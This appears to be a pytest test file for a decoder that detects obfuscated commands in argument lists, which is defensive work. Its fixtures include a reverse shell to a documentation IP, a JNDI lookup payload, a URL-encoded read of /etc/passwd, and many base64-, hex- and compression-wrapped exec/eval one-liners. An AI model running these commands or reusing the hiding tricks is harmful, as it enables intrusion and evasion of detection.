"""Hidden commands as attackers use them, one for each way of hiding, and their decoded forms."""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib
from base64 import b32encode, b64encode, encodebytes, urlsafe_b64encode

import pytest

from provenance.decode import Decoding, decode_argv

LONG = "sleep 1 && " * 20 + "whoami"
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.61/443 0>&1"
PYTHON = "import os;os.system('id')"


def b64(text: str | bytes) -> str:
    return b64encode(text.encode() if isinstance(text, str) else text).decode()


def escaped(text: str, form: str) -> str:
    return "".join(form.format(ord(char)) for char in text)


SHELL = [
    ("braces", f"{{echo,{b64(REVERSE_SHELL)}}}|{{base64,-d}}|bash", "base64", REVERSE_SHELL),
    ("pipe", f"echo {b64('whoami')} | base64 -d | sh", "base64", "whoami"),
    ("two letters", f"echo {b64('id')} | base64 -d | sh", "base64", "id"),
    ("long option", f"echo {b64('whoami')} | base64 --decode | sh", "base64", "whoami"),
    ("here string", f"base64 --decode <<< {b64(REVERSE_SHELL)}", "base64", REVERSE_SHELL),
    ("openssl -a", f"echo {b64('ls -la')} | openssl enc -d -a | sh", "base64", "ls -la"),
    ("openssl -base64", f"echo {b64('ls -la')} | openssl enc -base64 -d | sh", "base64", "ls -la"),
    ("unpadded", f"echo {b64('whoami; id').rstrip('=')} | base64 -d | sh", "base64", "whoami; id"),
    ("gzip", f"echo {b64(gzip.compress(PYTHON.encode()))} | base64 -d | gunzip", "base64+gzip", PYTHON),
    ("bzip2", f"echo {b64(bz2.compress(PYTHON.encode()))} | base64 -d | bunzip2", "base64+bzip2", PYTHON),
    ("xz", f"echo {b64(lzma.compress(PYTHON.encode()))} | base64 -d | unxz", "base64+xz", PYTHON),
    ("twice", f"echo {b64(b64(REVERSE_SHELL))} | base64 -d | base64 -d", "base64+base64", REVERSE_SHELL),
    ("base32", f"echo {b32encode(b'curl x.example').decode()} | base32 -d | sh", "base32", "curl x.example"),
    ("xxd", f"echo {b'rm -rf /tmp/x'.hex()} | xxd -r -p | sh", "hex", "rm -rf /tmp/x"),
    ("xxd spaced", f"echo {b'whoami'.hex(' ')} | xxd -r -p | sh", "hex", "whoami"),
    ("xxd braces", f"{{echo,{b'whoami'.hex()}}}|{{xxd,-r,-p}}|sh", "hex", "whoami"),
    ("printf hex", f"printf '{escaped('whoami', chr(92) + 'x{:02x}')}' | sh", "escapes", "whoami"),
    ("ansi-c", f"$'{escaped('curl', chr(92) + '{:03o}')}' http://198.51.100.7/", "escapes", "curl"),
    ("echo -e", f"echo -e '{escaped('wget', chr(92) + '0{:03o}')}'", "escapes", "wget"),
    ("bare word", rf"a={escaped('/bin/sh', chr(92) + 'x{:02X}')} ; $a", "escapes", "a=/bin/sh"),
    ("jndi", f"${{jndi:ldap://192.0.2.1:1389/Basic/Base64/{b64(REVERSE_SHELL)}}}", "base64", REVERSE_SHELL),
    ("url value", "curl 'http://192.0.2.1/x?cmd=cat%20%2Fetc%2Fpasswd'", "url", "cat /etc/passwd"),
    ("url letters", "curl http://192.0.2.1/%61%64%6d%69%6e", "url", "http://192.0.2.1/admin"),
    ("url twice", "curl 'http://192.0.2.1/?c=curl%2520http%253A%252F%252Fx.example'", "url+url", "curl http://x.example"),
    ("wrapped", "base64 -d <<E\n" + encodebytes(LONG.encode()).decode() + "E", "base64", LONG),
]  # fmt: skip

SCRIPTS = [
    (["python3", "-c", f"import base64;exec(base64.b64decode('{b64(PYTHON)}'))"], "base64", PYTHON),
    (["python3", "-c", f"exec(zlib.decompress(base64.b64decode('{b64(zlib.compress(PYTHON.encode()))}')))"],
        "base64+zlib", PYTHON),
    (["python3", "-c", f"exec(bytes.fromhex('{PYTHON.encode().hex()}'))"], "hex", PYTHON),
    (["python3", "-c", f"exec(binascii.unhexlify(b'{b'import x'.hex()}'))"], "hex", "import x"),
    (["python3", "-c", "import base64,sys;exec(base64.b64decode(sys.argv[1]))", b64("import x")], "base64", "import x"),
    (["python3", "-c", "exec('+'.join([" + "+".join(f"chr({ord(c)})" for c in PYTHON) + "]))"], "charcodes", PYTHON),
    (["python3", "-c", f"exec(bytes({list(PYTHON.encode())}))"], "charcodes", PYTHON),
    (["python3", "-c", f"exec('{escaped(PYTHON, chr(92) + 'u{:04x}')}')"], "escapes", PYTHON),
    (["perl", "-MMIME::Base64", "-e", f"eval decode_base64('{b64('system(1)')}')"], "base64", "system(1)"),
    (["perl", "-e", f"eval pack('H*', '{b'system(1)'.hex()}')"], "hex", "system(1)"),
    (["ruby", "-e", f"eval('{b64('system(1)')}'.unpack('m')[0])"], "base64", "system(1)"),
    (["ruby", "-rbase64", "-e", f"eval Base64.decode64('{b64('system(1)')}')"], "base64", "system(1)"),
    (["php", "-r", f"eval(base64_decode('{b64('system(1);')}'));"], "base64", "system(1);"),
    (["php", "-r", f"eval(gzinflate(base64_decode('{b64(zlib.compress(b'system(1);', wbits=-15))}')));"],
        "base64+deflate", "system(1);"),
    (["node", "-e", f"eval(Buffer.from('{b64('process.exit()')}', 'base64').toString())"], "base64", "process.exit()"),
    (["node", "-e", "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in "bash") + "))"], "charcodes", "bash"),
    (["pwsh", "-enc", b64("Get-Process".encode("utf-16-le"))], "base64+utf-16le", "Get-Process"),
    (["powershell", "-NoP", "-EncodedCommand", b64("IEX $x".encode("utf-16-le"))], "base64+utf-16le", "IEX $x"),
    (["tool", "--run=" + urlsafe_b64encode(b"curl http://x.example/??>>").decode()], "base64",
        "curl http://x.example/??>>"),
    (["mysql", "-e", f"select 0x{b'<?php system(1);'.hex()}"], "hex", "<?php system(1);"),
    (["x", "data:text/html;base64," + b64("<b>hi</b>")], "base64", "<b>hi</b>"),
]  # fmt: skip

INNOCENT = [
    ["printf", r"\033[31mred\033[0m"],
    ["grep", "-P", r"[\x00-\x1f\x7f]", "file"],
    ["tr", r"\101-\132", r"\141-\172"],
    ["curl", "https://api.example/search?q=blue%20and%20green%2Fred"],
    ["base64", "-w0", "/usr/share/doc/internationalization"],
    ["sh", "-c", "base64 -d /var/lib/application/configuration | openssl enc -d -a"],
    ["sha256sum", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
    ["docker", "run", "--id", "0123456789abcdef0123456789abcdef", "00:16:3e:5e:6c:00"],
    ["curl", "-H", "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"],
    ["ssh-keygen", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAIGJrYXNkZmFzZGZhc2RmYXNkZmFzZGZhc2Rm"],
    ["date", "+%Y%m%d%H%M%S"],
    ["/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", "17.0.19+10-1-deb12u2-Debian"],
]


@pytest.mark.parametrize(("script", "encoding", "text"), [case[1:] for case in SHELL], ids=[case[0] for case in SHELL])
def test_shell(script: str, encoding: str, text: str) -> None:
    assert Decoding(encoding, text) in decode_argv(["bash", "-c", script])


@pytest.mark.parametrize(("argv", "encoding", "text"), SCRIPTS, ids=[" ".join(argv)[:40] for argv, _, _ in SCRIPTS])
def test_scripts(argv: list[str], encoding: str, text: str) -> None:
    assert Decoding(encoding, text) in decode_argv(argv)


@pytest.mark.parametrize("argv", INNOCENT, ids=[argv[0] for argv in INNOCENT])
def test_harmless_commands_have_no_hidden_parts(argv: list[str]) -> None:
    assert decode_argv(argv) == []


def test_nested_encodings_are_listed_once() -> None:
    found = decode_argv(["sh", "-c", f"echo {b64(b64(REVERSE_SHELL))} | base64 -d | base64 -d | sh"])
    assert found == [Decoding("base64+base64", REVERSE_SHELL)]


def test_a_script_and_its_hidden_command_are_both_listed() -> None:
    inner = f"exec(bytes.fromhex('{PYTHON.encode().hex()}'))"
    found = decode_argv(["python3", "-c", f"exec(base64.b64decode('{b64(inner)}'))"])
    assert found == [Decoding("base64", inner), Decoding("base64+hex", PYTHON)]


def test_words_that_are_no_base32_are_left_alone() -> None:
    """Of a length that Base32 never has (RFC 4648, section 6), beside a word that is."""
    found = decode_argv(["sh", "-c", f"echo ABCDEFGHI {b32encode(b'curl x.example').decode()} | base32 -d"])
    assert [decoding.text for decoding in found] == ["curl x.example"]
